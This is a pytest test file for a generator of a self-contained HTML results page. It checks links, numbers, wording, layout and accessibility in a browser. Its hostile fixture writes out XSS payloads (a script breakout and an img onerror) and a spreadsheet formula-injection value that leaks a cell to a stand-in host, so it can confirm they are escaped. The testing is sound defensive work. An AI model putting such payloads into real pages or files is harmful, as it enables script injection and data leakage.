"""The page over all results: what it says comes from the tables, and it works in a browser, for everybody.

One page is made of the shipped results, beside a sweep of one's own whose labels are hostile, and opened once.
"""

import json
import re
import shutil
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from mismatch.config.fields import ConfigError
from mismatch.config.paths import REFERENCE
from mismatch.report import overview
from mismatch.report.overview import told
from mismatch.report.overview.numbers import Missing, Numbers
from mismatch.report.overview.page import SECTIONS
from mismatch.report.overview.sources import Sources
from mismatch.report.overview.wording import plainly, spoken
from mismatch.report.wording import counts, primary
from tests.report.cases import arms_of, claims_of, measured, results_of, runs_of

pytestmark = pytest.mark.slow

SCRIPT = "</script><script>window.harmed=1</script>"
IMAGE = '"><img src=x onerror="window.harmed=1">'
FORMULA = '=HYPERLINK("https://example.invalid/?"&A1,"x")'
LONG = "W" * 400
OWN = "own <b>&amp;' sweep"
BROWSERS = ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable")
BEYOND = """() => [...document.querySelectorAll("main *")]
    .filter(each => each.getBoundingClientRect().right > document.documentElement.clientWidth + 1)
    .filter(each => !each.closest(".wide, pre, svg, select"))
    .map(each => each.outerHTML.slice(0, 99))"""
"""What stands beyond the window's edge, but for what scrolls by itself."""
FEWER = """() => {
    for (const list of document.querySelectorAll(".ladder, #verdict-list, tbody, select"))
        for (const each of [...list.children].slice(5)) each.remove();
    for (const each of document.querySelectorAll("#trust details, .folder, #C1 details")) each.open = true;
}"""
"""Leaves five of whatever is listed: the others are of the same template."""
KEYS = [key for key, _ in SECTIONS]


def hostile(folder: Path) -> None:
    """A sweep of one's own with names that mean harm, and a claim that does."""
    runs = runs_of(arms_of(length__padding=["pre", "post"], mask=["none", "masking"]), 3)
    names = dict(zip(runs["arm"].unique(), (SCRIPT, IMAGE, FORMULA, LONG), strict=True))
    runs = runs.assign(**{"data": runs["arm"].map(names), "data.path": runs["arm"].map(names)})
    runs["run"] = [f"h{i}" for i in range(len(runs))]
    (folder / OWN).mkdir()
    runs.to_csv(folder / OWN / "runs.csv", index=False)
    claims = claims_of(
        {"claim": "H1", "statement": SCRIPT + LONG, "contrast": IMAGE, "source": FORMULA, **measured(-0.1, "SUPPORTED")}
    )
    claims.assign(experiment=OWN, metric="accuracy", runs="h3 h0 h4 h1 h5 h2").to_csv(
        folder / OWN / "claims.csv", index=False
    )


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The page."""
    folder = tmp_path_factory.mktemp("results")
    for path in REFERENCE.iterdir():
        if path.is_dir():
            (folder / path.name).symlink_to(path)
    hostile(folder)
    return overview.write(folder)


@pytest.fixture(scope="module")
def text(made: Path) -> str:
    return made.read_text(encoding="utf-8")


class Found(HTMLParser):
    """Ids, tags and addresses of a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.ids: list[str] = []
        self.tags: list[str] = []
        self.addresses: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        known = dict(attrs)
        self.ids += [known["id"] or ""] if "id" in known else []
        self.addresses += [known[name] or "" for name in ("href", "src") if name in known]


def test_the_page_is_small_self_contained_and_has_all_sections(text: str) -> None:
    page = Found(text)
    assert len(text.encode()) < 3_000_000
    assert set(KEYS) <= set(page.ids) and len(page.ids) == len(set(page.ids))
    assert page.tags.count("script") == 3 and not {"link", "iframe", "object"} & set(page.tags)
    assert not [each for each in page.addresses if re.match(r"(https?:)?//|javascript:", each)]
    inner = {each[1:] for each in page.addresses if each.startswith("#")}
    assert inner <= set(page.ids), f"no place for {inner - set(page.ids)}"


def linked(text: str) -> set[str]:
    """Files that a page leads to."""
    from urllib.parse import unquote

    return {unquote(each) for each in Found(text).addresses if not each.startswith(("#", "data:"))}


def test_every_link_leads_to_a_file_that_is_there(made: Path, text: str) -> None:
    files = linked(text)
    assert len(files) > 50
    assert not [each for each in files if not (made.parent / each).is_file()]


def test_a_page_that_stands_elsewhere_leads_only_to_what_is_there(tmp_path: Path, made: Path, text: str) -> None:
    (tmp_path / "padding").mkdir()
    (tmp_path / "padding" / "claims.csv").write_text("claim")
    page = overview.write(made.parent, tmp_path)
    assert linked(page.read_text(encoding="utf-8")) == {"padding/claims.csv"} < linked(text)


def test_the_shipped_page_is_of_the_shipped_results_and_leads_to_them() -> None:
    shipped = (REFERENCE / overview.FILE).read_text(encoding="utf-8")
    files = linked(shipped)
    assert files and not [each for each in files if not (REFERENCE / each).is_file()]
    assert "verdicts.csv" in files and {path.parent.name for path in REFERENCE.glob("*/claims.csv")} <= {
        Path(each).parent.name for each in files
    }
    verdicts = pd.read_csv(REFERENCE / "verdicts.csv")
    assert counts(primary(verdicts)) in shipped


def test_prose_finds_all_its_numbers_in_the_shipped_results_and_they_bear_it_out() -> None:
    texts = told.tell(Numbers(Sources(REFERENCE)))
    assert texts.missing == ()
    assert len(texts.answer) == 3 and len(texts.guide) >= 5 and len(texts.findings) >= 10
    answers = [answer for question in texts.guide for answer in question.answers]
    assert [each.changed for each in (*texts.findings, *answers) if each.changed] == []
    assert not [each.cost for each in answers if not each.cost]


def test_numbers_come_from_the_tables() -> None:
    numbers = Numbers(Sources(REFERENCE))
    row = numbers.row("C18")
    said = numbers.fill("from {C18|against} to {C18|arm}, guessing {C18|chance}, n = {C18|n}: {C18}")
    runs = pd.read_parquet(REFERENCE / "padding" / "runs.parquet").set_index("run")
    ids = row["runs"].split()
    arm, against = (runs.loc[ids[i::2], "exact_accuracy"].mean() for i in (0, 1))
    assert said.startswith(f"from {100 * against:.1f}% to {100 * arm:.1f}%, guessing 25.0%, n = {row['n']}: costs ")
    assert f"{-100 * row['effect']:.1f} points of accuracy" in said
    with pytest.raises(Missing, match="C18: no such contrast"):
        numbers.fill("{C18:no such contrast}")
    with pytest.raises(Missing, match="must be one of raw"):
        numbers.fill("{C18|nothing}")


def test_a_finding_whose_verdict_has_changed_says_so(tmp_path: Path) -> None:
    table = pd.read_csv(REFERENCE / "padding" / "claims.csv")
    (tmp_path / "padding").mkdir()
    (tmp_path / "padding" / "runs.parquet").symlink_to(REFERENCE / "padding" / "runs.parquet")
    table.loc[table["claim"].eq("M1"), "verdict"] = "REFUTED"
    table.to_csv(tmp_path / "padding" / "claims.csv", index=False)
    texts = told.tell(Numbers(Sources(tmp_path)))
    changed = [finding.changed for finding in texts.findings if "M1" in finding.claims]
    assert changed == ["M1 is REFUTED here, and was SUPPORTED when this was written"]
    assert any(each.startswith("L1") for each in texts.missing)


@pytest.mark.parametrize(
    ("row", "said"),
    [
        (measured(-0.65, "SUPPORTED", metric="accuracy"), "costs 65.0 points of accuracy [64.0, 66.0]"),
        (measured(0.02, "SUPPORTED", metric="accuracy"), "gains 2.0 points of accuracy [1.0, 3.0]"),
        (measured(0.002, "X", metric="accuracy"), "no clear difference (+0.2 points [\N{MINUS SIGN}0.8, +1.2])"),
        (
            measured(0.05, "X", metric="generalisation_gap"),
            "adds 5.0 points of gap between training and test accuracy [4.0, 6.0]",
        ),
        (measured(2.01, "X", metric="step_ms", scale="ratio"), "2.01 times the time of a step [2, 2.02]"),
        (
            measured(2.01, "X", metric="delay", scale="ratio", censored="arm 3, against 0"),
            "at least 2.01 times as many updates to learn [2, 2.02]",
        ),
    ],
)
def test_effects_are_told_in_plain_words(row: dict[str, Any], said: str) -> None:
    effect = spoken(claims_of({"claim": "C1"} | row).iloc[0])
    assert effect is not None and effect.text == said


def test_findings_that_cannot_be_read_are_refused_by_name(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "own").mkdir()
    (tmp_path / "own" / "sweep.yaml").touch()
    monkeypatch.setattr(told.experiments, "roots", lambda: [tmp_path])
    for content, said in {
        "findings: [{rule: x}]": r"the 1\. has rule.*must have rule, says, mechanism, limit and may have figure, holds",
        "finding: []": "has finding.*may have findings, mechanism",
        "- x": "has list",
        "a: [": "must be YAML",
    }.items():
        (tmp_path / "own" / told.FILE).write_text(content)
        with pytest.raises(ConfigError, match=said):
            told.sections("own")


def test_contrasts_lose_the_symbols_of_the_config() -> None:
    assert (
        plainly("pads after at 4 L_max against L_max")
        == "pads after at 4 times the longest length against the longest length"
    )
    assert plainly("pads to 1 L_max") == "pads to the longest length"


def test_a_page_of_few_results_says_what_is_not_there(tmp_path: Path) -> None:
    results_of(tmp_path)
    text = overview.write(tmp_path).read_text(encoding="utf-8")
    assert set(KEYS) <= set(Found(text).ids)
    for said in ("The catalogue was not run", "The gradient was not measured", "numbers of this page are not in"):
        assert said in text
    assert overview.write(tmp_path).read_text(encoding="utf-8") == text


def embedded(text: str, name: str) -> Any:
    found = re.search(rf'<script type="application/json" id="{name}">(.*?)</script>', text, re.DOTALL)
    assert found is not None
    return json.loads(found.group(1))


def test_the_explorer_holds_runs_as_they_are_and_pairs_only_what_shares_its_data(text: str) -> None:
    folder = embedded(text, "explorer-data")["folders"]["padding"]
    runs = pd.read_parquet(REFERENCE / "padding" / "runs.parquet")
    assert len(folder["arms"]) == runs["arm"].nunique()
    title, arm, against, metric = next(pair for pair in folder["pairs"] if pair[0].startswith("C18:"))
    left, right = folder["arms"][arm], folder["arms"][against]
    assert metric == "accuracy" and "no mask" in left[0] and "masking" in right[0] and "masked" in title
    assert left[3] == right[3], "a registered pair shares its data"
    other = next(each for each in folder["arms"] if each[1] != left[1])
    assert not set(left[3]) & set(other[3])


def test_hostile_labels_reach_the_page_as_text_alone(text: str) -> None:
    labels = " ".join(arm[0] + arm[1] for arm in embedded(text, "explorer-data")["folders"][OWN]["arms"])
    assert SCRIPT in labels and IMAGE in labels and LONG in labels
    assert SCRIPT not in text and IMAGE not in text


# In a browser.


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    path = next(filter(None, map(shutil.which, BROWSERS)), None)
    if path is None:
        pytest.skip(f"no browser: none of {', '.join(BROWSERS)} is installed")
    playwright = pytest.importorskip("playwright.sync_api")
    with playwright.sync_playwright() as run:
        found = run.chromium.launch(executable_path=path, args=["--no-sandbox"])
        yield found
        found.close()


class Opened:
    """A page in a browser, with all that it logged and asked for."""

    def __init__(self, browser: Any, path: Path, width: int = 1280, scheme: str = "light", script: bool = True) -> None:
        self.context = browser.new_context(
            viewport={"width": width, "height": 900}, color_scheme=scheme, java_script_enabled=script
        )
        self.page = self.context.new_page()
        self.page.set_default_timeout(180_000)
        self.said: list[str] = []
        self.asked: list[str] = []
        self.page.on("console", lambda message: self.said.append(message.text))
        self.page.on("pageerror", lambda error: self.said.append(str(error)))
        self.page.on("request", lambda request: self.asked.append(request.url))
        self.page.goto(path.as_uri())

    def __enter__(self) -> "Opened":
        return self

    def __exit__(self, *_: object) -> None:
        self.context.close()


@pytest.fixture(scope="module")
def window(browser: Any, made: Path) -> Iterator[Opened]:
    with Opened(browser, made) as found:
        yield found


@pytest.fixture
def opened(window: Opened, made: Path) -> Opened:
    """The page as it opens, whatever the tests before have chosen on it."""
    window.page.goto("about:blank")
    window.said.clear()
    window.asked.clear()
    window.page.goto(made.as_uri())
    return window


def shown(page: Any, selector: str) -> list[str]:
    """The texts of what is shown of `selector`."""
    return [
        str(each) for each in page.eval_on_selector_all(f"{selector}:not([hidden])", "all => all.map(e => e.innerText)")
    ]


def test_nothing_is_fetched_logged_or_harmed(opened: Opened, made: Path) -> None:
    assert opened.page.evaluate("window.harmed") is None
    assert opened.said == []
    assert [url for url in opened.asked if not url.startswith("data:")] == [made.as_uri()]


@pytest.mark.parametrize("width", [390, 1280])
def test_nothing_is_wider_than_the_window(browser: Any, made: Path, width: int) -> None:
    with Opened(browser, made, width, script=width == 1280) as found:
        found.page.eval_on_selector_all("details", "all => all.forEach(each => { each.open = true })")
        wide, window = found.page.evaluate(
            "[document.documentElement.scrollWidth, document.documentElement.clientWidth]"
        )
        assert wide <= window == width
        assert found.page.evaluate(BEYOND) == []


def test_the_hostile_arms_can_be_chosen_and_overflow_nothing(browser: Any, made: Path) -> None:
    with Opened(browser, made, 390) as found:
        page = found.page
        page.select_option("#explorer-folder", OWN)
        for arm in ("0", "1", "2", "3"):
            page.select_option("#explorer-arm", arm)
            page.select_option("#explorer-against", str((int(arm) + 1) % 4))
        assert LONG in page.inner_text("#explorer-arms") or LONG[:50] in page.inner_text("#explorer-arms")
        assert page.evaluate("document.documentElement.scrollWidth") == 390
        assert page.evaluate("window.harmed") is None and found.said == []


def test_verdicts_are_sorted_and_filtered(opened: Opened) -> None:
    page, items = opened.page, "#verdict-list > li"
    everything = shown(page, items)
    assert len(everything) > 30 and page.inner_text("#verdict-count").startswith(f"{len(everything)} of")
    page.select_option("#verdict-sort", "size")
    sizes = page.eval_on_selector_all(items, "all => all.map(each => Number(each.dataset.size))")
    assert sizes == sorted(sizes, reverse=True) and sizes[0] > sizes[-1]
    page.select_option("#verdict-verdict", "REFUTED")
    refuted = shown(page, items)
    assert refuted and all("REFUTED" in each for each in refuted) and len(refuted) < len(everything)
    page.fill("#verdict-search", "reshape")
    assert 0 < len(shown(page, items)) < len(refuted)
    page.click("#decide a[href='#C18']")
    page.wait_for_function("!document.getElementById('C18').hidden")
    assert len(shown(page, items)) == len(everything), "a link to a claim that is hidden shows all again"
    page.click("#C18 summary")
    assert "gives the claim its verdict" in page.inner_text("#C18 pre")


def test_the_catalogue_is_searched(opened: Opened) -> None:
    page, rows = opened.page, "#catalogue-table tbody tr"
    silent = shown(page, rows)
    assert silent and all("silent" in each for each in silent), "it opens with what passes in silence"
    page.select_option("#catalogue-caught", "nobody")
    missed = shown(page, rows)
    assert 0 < len(missed) < len(silent) and all("nobody" in each for each in missed)
    page.select_option("#catalogue-caught", "")
    page.fill("#catalogue-search", "softmax")
    assert 0 < len(shown(page, rows)) < len(silent)


def test_the_slider_moves_the_gradient_and_the_delay(opened: Opened) -> None:
    page = opened.page
    said = {}
    for pads in ("0", "8", "9", "40"):
        page.fill("#pads", pads)
        assert page.inner_text("#pads-number") == pads
        said[pads] = page.inner_text("#pads-says")
    share = pd.read_csv(REFERENCE / "padding" / "gradient.csv")
    eight = share[share["pads"].eq(8) & share["length.padding"].eq("post") & share["mask"].eq("none")]
    eight = eight[eight["model.bias_init"].eq("zeros")]["gradient_share"].median()
    assert f"{100 * eight:.2g}% of the gradient" in said["8"] and "between 8 and 10 pads" in said["9"]
    assert "no delay" in said["0"] and "at least" in said["40"] and len(set(said.values())) == 4
    page.focus("#pads")
    page.keyboard.press("ArrowLeft")
    assert page.inner_text("#pads-number") == "39"


def test_the_explorer_draws_pairs(opened: Opened) -> None:
    page = opened.page
    page.select_option("#explorer-folder", "padding")
    contrast = page.eval_on_selector_all(
        "#explorer-pair option", "all => all.find(e => e.text.startsWith('C18:')).value"
    )
    page.select_option("#explorer-pair", contrast)
    n = page.locator("#explorer-table tbody tr").count()
    assert n == 10 and page.locator("#explorer-chart circle").count() == 2 * n
    assert page.locator("#explorer-chart line.down").count() == n
    row = Numbers(Sources(REFERENCE)).row("C18")
    assert f"Mean difference {row['effect']:.3f}" in page.inner_text("#explorer-says")
    page.fill("#explorer-search", "japanese_vowels post")
    other = page.eval_on_selector_all(
        "#explorer-against option", "all => all.find(e => e.text.includes('vowels')).value"
    )
    page.select_option("#explorer-against", other)
    assert "different sequences in 10 of 10 replicates" in page.inner_text("#explorer-says")
    assert page.locator("#explorer-chart line.down, #explorer-chart line.up").count() == 0


def test_the_guide_answers_by_keyboard(opened: Opened) -> None:
    page = opened.page
    assert page.is_visible("#decide .guide:nth-of-type(1) .rule-1")
    page.focus("#guide-direction-1")
    page.keyboard.press("ArrowRight")
    assert page.is_visible("#decide .guide:nth-of-type(1) .rule-2")
    assert not page.is_visible("#decide .guide:nth-of-type(1) .rule-1")


def test_without_script_all_sections_read_and_the_guide_answers(browser: Any, made: Path) -> None:
    with Opened(browser, made, script=False) as found:
        page = found.page
        for key in KEYS:
            assert len(page.inner_text(f"#{key}")) > 100, key
        assert page.locator(".tools >> visible=true").count() == 0
        page.click("label[for=guide-zeros-2]")
        assert page.is_visible("#guide-zeros-2 ~ .rule-2")
        assert page.locator("#verdict-list > li >> visible=true").count() > 30
        assert page.locator("#explorer-table tbody tr >> visible=true").count() > 5
        assert page.locator("#mechanism table tbody tr >> visible=true").count() > 10


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_no_serious_fault(browser: Any, made: Path, scheme: str) -> None:
    axe = pytest.importorskip("axe_playwright_python.sync_playwright")
    with Opened(browser, made, 390 if scheme == "dark" else 1280, scheme) as found:
        found.page.evaluate(FEWER)
        faults = axe.Axe().run(found.page, options={"resultTypes": ["violations"]}).response["violations"]
    serious = [
        (fault["id"], fault["nodes"][0]["html"][:120]) for fault in faults if fault["impact"] in ("serious", "critical")
    ]
    assert serious == []
